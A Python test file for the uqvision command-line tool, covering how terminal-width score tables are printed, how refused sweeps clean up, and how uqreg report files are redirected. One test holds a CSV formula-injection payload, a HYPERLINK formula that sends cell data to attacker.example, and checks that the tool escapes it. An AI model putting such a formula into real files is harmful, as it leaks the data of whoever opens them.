"""The score tables and refusals after the smoke-scale audit: ``uqvision score NAME`` (and so
``uqvision evaluate``, which runs it) prints the headline columns at most a terminal wide and
says where the full table is; a refused sweep leaves nothing; ``uqvision report`` of a uqreg
study points to ``uqreg report``."""

from __future__ import annotations

import json
from csv import reader
from pathlib import Path

import numpy as np
import xarray as xr
from PIL import Image
from uqmetrics import write_dataset
from uqmetrics.runs.testing.scripts import load_script

from uqvision.cli import main
from uqvision.data import make_digits_folder
from uqvision.protocols.headline import HeadlineTable

#: What a terminal shows (uqvision.protocols.headline.TERMINAL_WIDTH).
TERMINAL_WIDTH = 120

HERE = Path(__file__).parent


def test_a_wide_table_prints_its_first_headline_columns_and_names_the_csv():
    columns = [f"coverage_median[method={m},alpha={a},calibration=platt]"
               for m in ("topk", "naive", "aps", "raps") for a in ("0.1", "0.2", "0.05")]
    rows = [{"model": f"model_{i}", **{c: 0.5 + 0.01 * j for j, c in enumerate(columns)}}
            for i in range(3)]
    table = HeadlineTable(["model"], [*columns, "mean_width"], [
        {**r, "mean_width": 1.0} for r in rows], "conformal: a row per model",
        headline=columns)
    text = table.terminal(full="/x/conformal.csv")
    lines = text.splitlines()
    assert max(map(len, lines)) <= TERMINAL_WIDTH
    assert "mean_width" not in text  # not a headline column
    shown = lines[1].split()[1:]
    assert shown and set(shown) == {"coverage_median"} and len(shown) < len(columns)
    assert lines[-1] == (f"({len(shown)} of {len(columns) + 1} columns shown; all "
                         f"{len(columns) + 1}: /x/conformal.csv)")
    assert "calibration=platt" in lines[0] and "calibration=platt" not in "".join(lines[1:])


def test_a_narrow_headline_is_followed_by_the_mean_columns_that_fit():
    # shift without an mCE baseline: three clean headline columns; the means over the
    # corruptions (what Ovadia et al. compare) fill the rest of the width, in order
    headline = ["clean_accuracy[calibration=none]", "clean_ece[calibration=none]",
                "clean_ece[calibration=temperature]"]
    means = [f"{v}[calibration=none,corruption=mean,severity=mean]" for v in ("accuracy", "ece")]
    wide = "ece[calibration=none,corruption=mean,severity=5]"
    rows = [{"model": f"model_{i}", **dict.fromkeys([*headline, *means, wide], 0.25)}
            for i in range(2)]
    table = HeadlineTable(["model"], [*headline, *means, wide], rows, "shift: a row per model",
                          headline=headline)
    lines = table.terminal(width=100, full="/x/shift.csv").splitlines()
    assert max(map(len, lines)) <= 100
    assert lines[1].split() == ["model", "clean_accuracy", "clean_ece", "clean_ece", "accuracy"]
    assert lines[0].endswith("every column with a corruption at corruption=mean")
    assert lines[3].split() == ["severity=mean"]  # the labels not shared, under their column
    assert lines[-1] == "(4 of 6 columns shown; all 6: /x/shift.csv)"
    # a terminal wide enough shows every column, the headline first
    text = table.terminal(width=200, full="/x/shift.csv").splitlines()
    assert text[1].split() == ["model", "clean_accuracy", "clean_ece", "clean_ece", "accuracy",
                               "ece", "ece"] and not text[-1].startswith("(")


def test_the_csv_tables_quote_a_label_a_spreadsheet_would_run():
    """A model label from a received file such as ``=HYPERLINK(...)`` is text in the CSVs
    ``score`` and ``results`` write (a leading ``'``); values stay numbers, negative ones too."""
    from uqvision.results import COLUMNS, ResultsTable

    evil = '=HYPERLINK("http://attacker.example/?"&A2,"x")'
    table = HeadlineTable(["model"], ["auroc"], [{"model": evil, "auroc": -0.5},
                                                 {"model": "net", "auroc": float("nan")}])
    rows = list(reader(table.to_csv().splitlines()))
    assert rows[1:] == [["'" + evil, "-0.5"], ["net", ""]]
    results = ResultsTable([{**dict.fromkeys(COLUMNS, ""), "model": evil, "top1": 0.5}])
    (row,) = list(reader(results.to_csv().splitlines()))[1:]
    assert row[COLUMNS.index("model")] == "'" + evil and row[COLUMNS.index("top1")] == "0.5"
    assert json.loads(results.to_json())["rows"][0]["model"] == evil  # the JSON as it is


def _caches_of(test_file: str):
    return load_script(HERE / "protocols" / test_file, "_audit")._caches


def test_score_conformal_prints_a_table_a_terminal_wide(tmp_path, capsys):
    caches = _caches_of("conformal/test_conformal_score.py")(tmp_path / "c")
    out = tmp_path / "conformal.nc"
    capsys.readouterr()
    assert main(["score", "conformal", "--caches", str(caches), "--out", str(out),
                 "--dataset", "test", "--calibration-dataset", "val", "--trials", "3",
                 "--alphas", "0.1", "0.2"]) == 0
    printed = capsys.readouterr().out.splitlines()
    assert max(map(len, printed)) <= TERMINAL_WIDTH, max(map(len, printed))
    csv = tmp_path / "conformal.csv"
    assert any(line.startswith("(") and line.endswith(f"of 18 columns shown; all 18: {csv})")
               for line in printed), printed
    with open(csv, newline="", encoding="utf-8") as f:
        assert len(next(reader(f))) == 19  # model and the 18 columns
    assert str(csv) in printed


def _noise_folder(root: Path, n: int) -> Path:
    rng = np.random.default_rng(0)
    for i in range(n):
        path = root / "x" / f"o{i}.png"
        path.parent.mkdir(parents=True, exist_ok=True)
        Image.fromarray(rng.integers(0, 255, (20, 20, 3), dtype=np.uint8)).save(path)
    return root


def test_a_sweep_refused_for_its_calibration_size_writes_no_content_hash(tmp_path, capsys):
    """``--ood-sets`` with a bad ``--calibration-size``: the OOD overlap check wrote
    ``OUT/content_hashes/*.json`` before the refusal."""
    data = make_digits_folder(tmp_path / "digits", max_per_class=2) / "test"
    ood = _noise_folder(tmp_path / "dtd", 3)
    out = tmp_path / "s"
    assert main(["--threads", "1", "sweep", "--models", "test_byobnet", "--random-init",
                 "--data", str(data), "--out", str(out), "--calibration-size", "5000",
                 "--ood-sets", f"ood-far:dtd={ood}"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "--calibration-size 5000" in err, err
    assert not out.exists(), sorted(p.relative_to(out).as_posix() for p in out.rglob("*"))


def test_report_of_a_uqreg_study_points_to_uqreg_report(tmp_path, refused):
    ds = xr.Dataset({"coverage": ("method", [0.9, 0.8])}, coords={"method": ["blr", "ens"]},
                    attrs={"title": "uqreg coverage study: sinusoid",
                           "run_config": json.dumps({"command": "uqreg study"})})
    study = write_dataset(ds, tmp_path / "study.nc")
    line = refused(["report", study, "--out", tmp_path / "site"])
    assert line == (f"uqvision report: error: {str(study)!r} is a result of uqreg (its attrs "
                    "say so), not a uqvision score file: build its site with uqreg report")
    assert not (tmp_path / "site").exists()
